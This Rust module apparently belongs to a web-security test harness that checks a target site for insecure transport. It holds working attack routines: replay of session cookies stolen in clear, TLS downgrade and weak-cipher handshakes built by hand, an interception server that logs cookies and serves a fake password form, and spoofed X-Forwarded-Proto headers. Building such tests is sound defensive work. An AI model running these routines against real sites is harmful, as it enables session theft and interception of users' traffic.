//! `insecure-transport`: what crosses the network in clear, or in a TLS that does not protect it.

use std::sync::{Arc, Mutex, PoisonError};

use anyhow::{Context, Result, ensure};
use axum::Router;
use axum::extract::Request;
use axum::response::Html;
use bytes::Bytes;
use http::{Method, header};
use testkit::{Browser, Site};

use super::member::{address, is_in, join, log_in, submit_with};
use super::recovery::next_link;
use super::{Outcome, member};
use crate::{Person, Target};

/// Suites of TLS 1.2 with CBC, and with keys that one stolen key opens.
const CBC: [u16; 6] = [0xc013, 0xc014, 0xc027, 0x002f, 0x0035, 0x000a];

/// Records the session cookie as the victim's old bookmark sends it in clear, and uses it over TLS.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn session_sent_in_clear(target: &Target) -> Result<Outcome> {
    let victim = join(target, Person::VICTIM).await?;
    let stolen = victim.cookie("sessionid").context("no session")?.to_owned();
    let reply = target
        .visitor_in_clear()
        .with_cookie("sessionid", &stolen)
        .open("/")
        .await?;
    let open = is_in(&mut victim.stranger().with_cookie("sessionid", &stolen)).await?;
    Ok(Outcome::new(
        open,
        format!(
            "answered in clear with {}, and the session is open: {open}",
            reply.status
        ),
    ))
}

/// Records a login that a form of another page sends in clear.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn login_taken_in_clear(target: &Target) -> Result<Outcome> {
    join(target, Person::VICTIM).await?;
    let mut victim = target.visitor_in_clear();
    let reply = log_in(&mut victim, Person::VICTIM).await?;
    let session = victim.cookie("sessionid").unwrap_or_default();
    Ok(Outcome::new(
        !session.is_empty(),
        format!("answered with {} and the session {session:?}", reply.status),
    ))
}

/// Offers nothing newer than TLS 1.0 or 1.1, as who has changed the client's hello on its way does.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn old_tls(target: &Target) -> Result<Outcome> {
    let mut spoken = Vec::new();
    for version in [[3, 0], [3, 1], [3, 2]] {
        if let Some(said) = hello(target, version, &CBC).await? {
            spoken.push((version, said));
        }
    }
    Ok(Outcome::new(!spoken.is_empty(), format!("agreed to {spoken:?}")))
}

/// Offers TLS 1.2 with nothing but suites of CBC and of keys without forward secrecy.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn suite_that_does_not_protect(target: &Target) -> Result<Outcome> {
    let agreed = hello(target, [3, 3], &CBC).await?;
    Ok(Outcome::new(agreed.is_some(), format!("agreed to {agreed:?}")))
}

/// Answers in clear in the site's place, after the victim has been there once over TLS.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn second_visit_in_clear(target: &Target) -> Result<Outcome> {
    let (seen, between) = between().await?;
    let browser = target
        .reachable_past(Browser::setup(), between.address())
        .start()
        .await?;
    browser.open(&target.url("/login/")).await?;
    browser.open(&format!("http://{}/login/", target.host())).await?;
    let title = browser.title().await?;
    let asked = seen.lock().unwrap_or_else(PoisonError::into_inner).clone();
    Ok(Outcome::new(
        title == "between",
        format!("the browser shows {title:?}, and has asked in clear for {asked:?}"),
    ))
}

/// Puts a picture with an address in clear before the logged-in victim, and reads the cookies that come along.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn cookie_sent_in_clear(target: &Target) -> Result<Outcome> {
    join(target, Person::VICTIM).await?;
    let (seen, between) = between().await?;
    let browser = target
        .reachable_past(Browser::setup(), between.address())
        .start()
        .await?;
    browser.open(&target.url("/login/")).await?;
    browser.fill("username", Person::VICTIM.username).await?;
    browser
        .fill("password", &format!("{}\n", Person::VICTIM.password))
        .await?;
    browser.find("[data-user]").await?;
    let session = browser.cookie("sessionid").await?.context("no session")?;
    // A page of the attacker's would hold the picture; going there oneself sends the same cookies.
    browser
        .open(&format!("http://{}/picture.png", target.host()))
        .await?;
    let seen = seen.lock().unwrap_or_else(PoisonError::into_inner).join("; ");
    Ok(Outcome::new(
        seen.contains(&session),
        format!("came in clear: {seen:?}"),
    ))
}

/// Says in headers that the connection is not TLS, so that the link in a mail is one in clear.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn link_in_clear_by_a_header(target: &Target) -> Result<Outcome> {
    join(target, Person::VICTIM).await?;
    let email = address(Person::VICTIM);
    let mut found = Vec::new();
    for (number, name) in ["X-Forwarded-Proto", "X_Forwarded_Proto"].iter().enumerate() {
        let mut mallory = target.visitor()?;
        let reply = submit_with(&mut mallory, "/forgot/", &[("email", &email)], &[(name, "http")]).await?;
        ensure!(
            reply.status.is_redirection(),
            "no link was asked for: {}",
            reply.status
        );
        let link = next_link(target, number).await?;
        if link.contains("http://") {
            found.push(format!("{name}: {link}"));
        }
    }
    Ok(Outcome::new(!found.is_empty(), format!("{found:?}")))
}

/// Says of a clear request, in every header there is, that a proxy has received it over TLS.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn clear_request_called_secure(target: &Target) -> Result<Outcome> {
    let mut seen = Vec::new();
    for (name, value) in [
        ("X-Forwarded-Proto", "https"),
        ("X_Forwarded_Proto", "https"),
        ("X-Forwarded-Protocol", "https"),
        ("X-Forwarded-Scheme", "https"),
        ("X-Forwarded-Ssl", "on"),
        ("Front-End-Https", "on"),
        ("Forwarded", "proto=https"),
    ] {
        let mut visitor = target.visitor_in_clear();
        let request = visitor.request(Method::GET, "/login/").header(name, value);
        let reply = visitor.send(request, Bytes::new()).await?;
        let evidence = format!("{name}: {value} was answered with {}", reply.status);
        if reply.text().contains("name=\"password\"") {
            return Ok(Outcome::new(true, evidence));
        }
        seen.push(evidence);
    }
    Ok(Outcome::new(false, seen.join("; ")))
}

/// Lets a login lead to the same site in clear, where everything that follows can be read.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn login_that_leads_into_the_clear(target: &Target) -> Result<Outcome> {
    join(target, Person::VICTIM).await?;
    let next = format!("/login/?next=http%3A%2F%2F{}%2F", target.host());
    let Person { username, password } = Person::VICTIM;
    let mut victim = target.visitor()?;
    let fields = [("username", username), ("password", password)];
    let reply = victim.submit(&next, &fields).await?;
    ensure!(
        member::is_in(&mut victim).await?,
        "the login was answered with {}",
        reply.status
    );
    let place = reply.header("location");
    Ok(Outcome::new(
        place.starts_with("http:"),
        format!("it leads to {place:?}"),
    ))
}

/// Somebody between the victim and the site, for what is said in clear: notes each path and its cookies, and answers.
async fn between() -> Result<(Arc<Mutex<Vec<String>>>, Site)> {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let notes = Arc::clone(&seen);
    let answer = async move |request: Request| {
        let cookies = request.headers().get(header::COOKIE);
        let line = format!("{} {cookies:?}", request.uri());
        notes.lock().unwrap_or_else(PoisonError::into_inner).push(line);
        Html("<title>between</title><input name=\"password\">")
    };
    let site = Site::plain(Router::new().fallback(answer)).await?;
    Ok((seen, site))
}

/// Sends a hello, and returns what the server agrees to, if it does: a version and a suite.
async fn hello(target: &Target, version: [u8; 2], suites: &[u16]) -> Result<Option<String>> {
    let name = target.host().as_bytes();
    let name = [
        &[0, 0],
        &short(name.len() + 5)?,
        &short(name.len() + 3)?,
        &[0][..],
        &short(name.len())?,
        name,
    ]
    .concat();
    // Groups, points and signatures, without which a server refuses for another reason than the version.
    let groups = [0, 10, 0, 6, 0, 4, 0, 29, 0, 23];
    let points = [0, 11, 0, 2, 1, 0];
    let signatures = [0, 13, 0, 10, 0, 8, 4, 3, 4, 1, 2, 3, 2, 1];
    let extensions = [name.as_slice(), &groups, &points, &signatures].concat();
    let suites: Vec<u8> = suites.iter().flat_map(|suite| suite.to_be_bytes()).collect();
    let body = [
        &version[..],
        &[9; 32],
        &[0],
        &short(suites.len())?,
        &suites,
        &[1, 0],
        &short(extensions.len())?,
        &extensions,
    ]
    .concat();
    let handshake = [&[1, 0][..], &short(body.len())?, &body].concat();
    let record = [&[22, 3, 1][..], &short(handshake.len())?, &handshake].concat();
    let mut wire = target.bare_wire().await?;
    wire.send(record).await?;
    let said = wire.read_some().await?;
    Ok(match said.as_slice() {
        [22, _, _, _, _, 2, _, _, _, major, minor, ..] => Some(format!("version {major}.{minor}")),
        _ => None,
    })
}

fn short(length: usize) -> Result<[u8; 2]> {
    Ok(u16::try_from(length)?.to_be_bytes())
}
